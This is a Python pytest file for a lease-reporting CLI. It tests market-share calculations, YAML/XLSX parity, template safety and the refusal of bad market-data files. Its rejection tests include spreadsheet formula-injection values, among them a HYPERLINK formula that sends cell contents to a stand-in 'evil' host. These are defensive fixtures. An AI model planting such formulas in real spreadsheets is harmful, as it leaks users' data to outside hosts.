"""Market data beside the archive: the company's share of the market in report composition and
report all against hand calculation, the same from YAML and XLSX, and hostile files refused
with the place of each problem."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from test_report_cli import cli  # noqa: F401  (fixture)

from creditfile.store import Archive

AS_OF = "2026-11-29"
MARKS = {"strength": 10, "potential": 15, "reputation": 20, "payment": 30, "other": 10}
LOW = {"strength": 10, "potential": 14, "reputation": 18, "payment": 28, "other": 9}


def _lease(
    contract: str, item: str, start: str, amount: float, status: str = "closed"
) -> dict[str, Any]:
    return {"contract": contract, "item": item, "start": start, "end": "2026-01-31",
            "amount": amount, "status": status}  # fmt: skip


DOCS = [
    {"id": "M1", "name": "市场测试一有限公司", "nature": "developer",
     "profile": {"trading_since": "2020-01-01"},
     "assessment": MARKS,
     "leases": [
         _lease("M1-1", "tower_crane", "2025-02-10", 1_250_000),
         _lease("M1-2", "steel_formwork", "2025-07-01", 300_000),
         _lease("M1-3", "tower_crane", "2024-12-31", 999),  # booked the year before
         _lease("M1-4", "tower_crane", "2025-03-01", 5_000_000, "cancelled"),
     ]},
    {"id": "M2", "name": "市场测试二有限公司", "nature": "developer",
     "profile": {"trading_since": "2020-01-01"},
     "assessment": LOW,
     "leases": [
         _lease("M2-1", "tower_crane", "2025-11-30", 250_000),
         _lease("M2-2", "climbing_formwork", "2025-05-05", 80_000),
     ]},
]  # fmt: skip

MARKET = """\
source: 测试年鉴
unit: 万元
markets:
  - {item: tower_crane, region: 湖北省, period: 2025, size: 5000}
  - {item: 塔式起重机, region: 湖南省, period: 2025-Q1, size: 1000}
  - {item: tower_crane, region: 湖南省, period: 2025-Q2, size: 1000}
  - {item: tower_crane, region: 湖南省, period: 2025-Q3, size: 1000}
  - {item: Tower crane, region: 湖南省, period: 2025-Q4, size: 1000}
  - {item: steel_formwork, region: 湖北省, period: 2025, size: 300}
  - {item: steel_formwork, region: 湖南省, period: "2025", size: 200}
  - {item: climbing_formwork, region: 湖北省, period: 2025, size: 100}
"""


@pytest.fixture
def archive(tmp_path: Path, cli: Any) -> Path:  # noqa: F811
    path = tmp_path / "archive.json"
    Archive.open(path, create=True).import_customers(DOCS, actor="t")
    assert cli("regrade", "--as-of", AS_OF).returncode == 0
    return path


def _shares(cli: Any, *args: str) -> dict[str, Any]:  # noqa: F811
    result = cli("report", "composition", "--as-of", AS_OF, "--json", *args)
    assert result.returncode == 0, result.stderr
    data: dict[str, Any] = json.loads(result.stdout)["data"]
    return data


def _cells(data: dict[str, Any]) -> dict[str, tuple[Any, Any, Any]]:
    cells = {
        r["key"]: (r["market_booked"], r["market_size"], r["market_pct"]) for r in data["rows"]
    }
    total = data["total"]
    cells["total"] = (total["market_booked"], total["market_size"], total["market_pct"])
    return cells


YEAR = ("--from", "2025-01-01", "--to", "2025-12-31")


def test_shares_by_item_and_grade_against_hand_calculation(
    archive: Path,
    cli: Any,  # noqa: F811
) -> None:
    (archive.parent / "archive.json.market.yaml").write_text(MARKET, "utf-8")
    items = _cells(_shares(cli, "--by", "item", *YEAR))
    # 湖北 5,000万 + 湖南 4 × 1,000万 = 90,000,000; booked 1,250,000 + 250,000 (not the
    # lease of 2024-12-31, not the cancelled one).
    assert items["tower_crane"] == (1_500_000, 90_000_000, 1.67)  # 1.666…
    assert items["steel_formwork"] == (300_000, 5_000_000, 6.0)
    assert items["climbing_formwork"] == (80_000, None, None)  # 湖南 gives no figure
    assert items["total"] == (1_800_000, 95_000_000, 1.89)  # 1.8947…: covered items only
    grades = _cells(_shares(cli, "--by", "grade", *YEAR))
    assert grades["A"] == (1_550_000, 95_000_000, 1.63)  # 1.6315…
    assert grades["B"] == (250_000, 95_000_000, 0.26)  # 0.2631…: its climbing formwork is out
    assert grades["total"] == (1_800_000, 95_000_000, 1.89)
    hubei = _cells(_shares(cli, "--by", "item", "--region", "湖北省", *YEAR))
    assert hubei["tower_crane"] == (1_500_000, 50_000_000, 3.0)
    assert hubei["climbing_formwork"] == (80_000, 1_000_000, 8.0)
    assert hubei["total"] == (1_880_000, 54_000_000, 3.48)  # 3.4814…
    quarter = ("--from", "2025-04-01", "--to", "2025-06-30", "--region", "湖南省")
    q2 = _cells(_shares(cli, "--by", "item", *quarter))
    assert q2["tower_crane"] == (0, 10_000_000, 0.0)
    assert q2["steel_formwork"] == (0, None, None)  # a year's figure never splits in quarters


def test_no_market_data_is_said_in_words(archive: Path, cli: Any) -> None:  # noqa: F811
    (archive.parent / "archive.json.market.yaml").write_text(MARKET, "utf-8")
    data = _shares(cli, "--by", "item", "--from", "2025-01-15", "--to", "2025-12-31")
    assert data["market"]["period_whole"] is False
    assert all(r["market_pct"] is None for r in data["rows"])
    zh = cli("--lang", "zh", "report", "composition", "--by", "item", "--as-of", AS_OF, *YEAR)
    assert "市场:湖北省、湖南省 (测试年鉴)" in zh.stdout
    climbing = next(line for line in zh.stdout.splitlines() if "climbing_formwork" in line)
    assert climbing.rstrip().endswith("无市场数据")
    en = cli("--lang", "en", "report", "composition", "--by", "grade", "--as-of", AS_OF)
    assert "no market data: market shares need --from and --to" in en.stdout
    nature = cli("report", "composition", "--by", "nature", "--as-of", AS_OF, "--json")
    assert "market" not in json.loads(nature.stdout)["data"]


def test_report_all_carries_the_shares_to_every_output(
    archive: Path,
    cli: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    market = tmp_path / "elsewhere.yaml"
    market.write_text(MARKET, "utf-8")
    args = ("report", "all", "--as-of", AS_OF, "--market", str(market), *YEAR)
    data = json.loads(cli(*args, "--json").stdout)["data"]
    assert data["composition"]["grade"]["total"]["market_pct"] == 1.89
    assert _cells(data["items"])["tower_crane"] == (1_500_000, 90_000_000, 1.67)
    out = tmp_path / "all.xlsx"
    assert cli("--lang", "zh", *args, "--xlsx", str(out)).returncode == 0
    sheet = openpyxl.load_workbook(out)["构成-租赁物"]
    header = [c.value for c in sheet[1]]
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert header[-3:] == ["本期新签租赁额(元)", "市场规模(元)", "市场份额%"]
    assert rows["tower_crane"][-3:] == (1_500_000, 90_000_000, 1.67)
    assert rows["climbing_formwork"][-1] == "无市场数据"
    csv_text = cli("--lang", "en", *args, "--csv").stdout
    assert "Market share %" in csv_text and "no market data" in csv_text


def test_the_workbook_reads_as_the_yaml_does(archive: Path, cli: Any, tmp_path: Path) -> None:  # noqa: F811
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "市场规模"
    sheet.append(["租赁物", "地区", "期间", "市场规模(万元)", "说明"])
    for row in yaml.safe_load(MARKET)["markets"]:
        sheet.append([row["item"], row["region"], row["period"], row["size"]])
    path = tmp_path / "archive.json.market.xlsx"
    book.save(path)
    from_xlsx = _cells(_shares(cli, "--by", "item", *YEAR))
    path.unlink()
    (tmp_path / "archive.json.market.yaml").write_text(MARKET, "utf-8")
    assert from_xlsx == _cells(_shares(cli, "--by", "item", *YEAR))


def test_template_then_check_round_trip(archive: Path, cli: Any, tmp_path: Path) -> None:  # noqa: F811
    made = cli("market", "template")
    assert made.returncode == 0, made.stderr
    beside = tmp_path / "archive.json.market.yaml"
    text = beside.read_text("utf-8")
    assert "tower_crane" in text and "unit: 万元" in text
    again = cli("market", "template")
    assert again.returncode == 1 and "already kept beside the archive" in again.stderr
    assert beside.read_text("utf-8") == text  # an analyst's file is never replaced
    checked = json.loads(cli("market", "check", "--json").stdout)
    assert checked["figures"] == 45 and checked["regions"] == ["湖北省"]
    workbook = tmp_path / "market.xlsx"
    assert cli("market", "template", "--out", str(workbook)).returncode == 0
    assert json.loads(cli("market", "check", str(workbook), "--json").stdout)["figures"] == 45
    refused = cli("market", "template", "--out", str(tmp_path / "archive.json"))
    assert refused.returncode == 1 and "not written" in refused.stderr


def test_a_template_never_replaces_an_edited_file_unasked(
    archive: Path,
    cli: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    edited = tmp_path / "my-market.yaml"
    edited.write_text(MARKET, "utf-8")
    kept = cli("market", "template", "--out", str(edited))
    assert kept.returncode == 1
    assert "the file exists already" in kept.stderr and "--force" in kept.stderr
    assert edited.read_text("utf-8") == MARKET
    workbook = tmp_path / "market.xlsx"
    workbook.write_bytes(b"an analyst's workbook")
    assert cli("market", "template", "--out", str(workbook)).returncode == 1
    assert workbook.read_bytes() == b"an analyst's workbook"
    assert cli("market", "template", "--out", str(edited), "--force").returncode == 0
    assert "unit: 万元" in edited.read_text("utf-8") and edited.read_text("utf-8") != MARKET


@pytest.mark.parametrize(
    ("row", "words"),
    [
        ("{item: tower_crane, region: 湖北省, period: 2025, size: .nan}", "4:"),
        ("{item: tower_crane, region: 湖北省, period: 2025, size: -5}", "out of range"),
        ("{item: tower_crane, region: 湖北省, period: 2025, size: 1.0e+300}", "out of range"),
        ("{item: 挖掘机, region: 湖北省, period: 2025, size: 5}", "unknown leased item '挖掘机'"),
        ("{item: tower_cran, region: 湖北省, period: 2025, size: 5}", "did you mean 'tower_crane'"),
        ("{item: tower_crane, region: '=HYPERLINK(\"http://x\",\"a\")', period: 2025, size: 5}",
         "looks like a spreadsheet formula"),
        ("{item: tower_crane, region: 湖北省, period: 2025-Q5, size: 5}", "2025-Q5"),
        ("{item: tower_crane, region: 湖北省, period: 2025, size: 5, colour: red}",
         "unknown key 'colour'"),
        ("{item: tower_crane, region: 湖北省, period: 2025, size: 100}", "given twice (first at line 3)"),
    ],
)  # fmt: skip
def test_a_hostile_yaml_file_is_refused_at_its_line(
    archive: Path,
    cli: Any,  # noqa: F811
    row: str,
    words: str,
) -> None:
    market = archive.parent / "archive.json.market.yaml"
    market.write_text(
        "unit: 亿元\nmarkets:\n  - {item: tower_crane, region: 湖北省, period: 2025, size: 1}\n"
        f"  - {row}\n",
        "utf-8",
    )
    result = cli("report", "composition", "--by", "item", "--as-of", AS_OF, *YEAR)
    assert result.returncode == 1 and result.stdout == ""
    assert f"{market}:4:" in result.stderr and words in result.stderr
    assert "Traceback" not in result.stderr
    checked = cli("market", "check")
    assert checked.returncode == 1 and words in checked.stderr


def test_too_large_and_inconsistent_figures_are_refused(archive: Path, cli: Any) -> None:  # noqa: F811
    market = archive.parent / "archive.json.market.yaml"
    market.write_text(
        "unit: 亿元\nmarkets:\n"
        "  - {item: tower_crane, region: 湖北省, period: 2024, size: 20000000}\n"
        "  - {item: tower_crane, region: 湖北省, period: 2025, size: 10}\n"
        + "".join(
            f"  - {{item: tower_crane, region: 湖北省, period: 2025-Q{q}, size: 2}}\n"
            for q in range(1, 5)
        ),
        "utf-8",
    )
    result = cli("market", "check")
    assert result.returncode == 1
    assert (
        f"{market}:3:" in result.stderr
        and "is more than 1,000,000,000,000,000 CNY" in result.stderr
    )
    assert (
        f"{market}:4:" in result.stderr and "four quarters add up to 800,000,000" in result.stderr
    )


def test_a_hostile_workbook_is_refused_at_its_cell(archive: Path, cli: Any, tmp_path: Path) -> None:  # noqa: F811
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "市场"
    sheet.append(["item", "region", "period", "size"])
    sheet.append(["tower_crane", '=HYPERLINK("http://evil/?d="&A1,"湖北")', "2025", 5])
    sheet.append(["tower_crane", "湖南省", "2025", "NaN"])
    sheet.append(["tower_crane", "湖南省", "2025", "=1/0"])
    path = tmp_path / "bad.xlsx"
    book.save(path)
    result = cli("market", "check", str(path))
    assert result.returncode == 1
    assert f"{path}:市场!B2: region: a formula" in result.stderr
    assert f"{path}:市场!D4: size: a formula" in result.stderr
    sheet.delete_rows(4)
    sheet["B2"] = "湖北省"
    book.save(path)
    result = cli("market", "check", str(path))
    assert f"{path}:市场!D3: size: 'NaN' should be a number" in result.stderr
    missing = tmp_path / "columns.xlsx"
    other = openpyxl.Workbook()
    other.active.append(["租赁物", "期间"])
    other.save(missing)
    result = cli("market", "check", str(missing))
    assert result.returncode == 1 and "no column 地区, 市场规模" in result.stderr


ONE_REGION = """\
unit: 万元
markets:
  - {item: steel_formwork, region: 湖北省, period: 2025, size: 1}
"""


def test_a_share_over_100_percent_is_flagged(archive: Path, cli: Any) -> None:  # noqa: F811
    # 300,000 booked (every region) against one province's 10,000: 3,000%.
    (archive.parent / "archive.json.market.yaml").write_text(ONE_REGION, "utf-8")
    data = _shares(cli, "--by", "item", *YEAR)
    assert _cells(data)["steel_formwork"] == (300_000, 10_000, 3000.0)
    assert data["market"]["shares_over_100"] == ["steel_formwork", "total"]
    args = ("report", "composition", "--by", "item", "--as-of", AS_OF, *YEAR)
    en = cli("--lang", "en", *args).stdout
    assert "share over 100%: the market data covers less than the company books" in en
    assert "(regions 湖北省 only?)" in en
    zh = cli("--lang", "zh", *args).stdout
    assert "市场份额超过 100%" in zh and "湖北省" in zh
    fair = _shares(cli, "--by", "grade", "--from", "2025-04-01", "--to", "2025-06-30")
    assert fair["market"]["shares_over_100"] == []
    unflagged = cli("--lang", "en", "report", "composition", "--by", "grade", "--as-of", AS_OF)
    assert "share over 100%" not in unflagged.stdout


def test_without_a_period_nothing_is_booked_in_period(
    archive: Path,
    cli: Any,  # noqa: F811
    tmp_path: Path,
) -> None:
    (archive.parent / "archive.json.market.yaml").write_text(MARKET, "utf-8")
    for by in ("item", "grade"):
        cells = _cells(_shares(cli, "--by", by))
        assert all(booked is None for booked, _size, _pct in cells.values()), cells
    zh = cli("--lang", "zh", "report", "composition", "--by", "item", "--as-of", AS_OF).stdout
    climbing = next(line for line in zh.splitlines() if "climbing_formwork" in line)
    assert climbing.split()[-3:] == ["-", "-", "无市场数据"]
    out = tmp_path / "all.xlsx"
    args = ("--lang", "zh", "report", "all", "--as-of", AS_OF, "--xlsx", str(out))
    assert cli(*args).returncode == 0
    sheet = openpyxl.load_workbook(out)["构成-租赁物"]
    header = [c.value for c in sheet[1]]
    booked = header.index("本期新签租赁额(元)")
    assert all(row[booked] is None for row in sheet.iter_rows(min_row=2, values_only=True))
    # A period not on quarter bounds still has its bookings by item, only no market.
    odd = _cells(_shares(cli, "--by", "item", "--from", "2025-01-15", "--to", "2025-12-31"))
    assert odd["tower_crane"] == (1_500_000, None, None)


def _hidden(shown: str) -> str:
    """The columns a table says it left out, as one line."""
    after = shown.partition("not shown at 80 columns:")[2]
    return " ".join(after.partition("--wide")[0].split())


def test_at_80_columns_the_share_keeps_what_it_divides(archive: Path, cli: Any) -> None:  # noqa: F811
    from cli_support import under_terminal

    (archive.parent / "archive.json.market.yaml").write_text(MARKET, "utf-8")
    market = ["Booked in period (CNY)", "Market size (CNY)", "Market share %"]
    for by in ("item", "grade"):
        args = ["--lang", "en", "report", "composition", "--by", by, "--as-of", AS_OF, *YEAR]
        shown = under_terminal(args, 80, archive)
        hidden = _hidden(shown)
        assert not any(header in hidden for header in market), shown
        amounts = "Lease amount (CNY)" if by == "item" else "Cumulative leases (CNY)"
        assert amounts in hidden, shown
    # Without a period there is no share: the three columns give way first, together.
    args = ["--lang", "en", "report", "composition", "--by", "grade", "--as-of", AS_OF]
    shown = under_terminal(args, 80, archive)
    assert all(header in _hidden(shown) for header in market), shown
    assert "Cumulative leases (CNY)" in shown.split("not shown")[0]


def test_at_80_columns_the_trend_drops_the_code_before_the_changes(
    archive: Path,
    cli: Any,  # noqa: F811
) -> None:
    from cli_support import under_terminal

    args = ["--lang", "en", "report", "trend", "--by", "item", "--as-of", AS_OF]
    shown = under_terminal(args, 80, archive)
    hidden = next(line for line in shown.splitlines() if "not shown at 80" in line)
    assert "Code" in hidden and "Change" not in hidden, shown
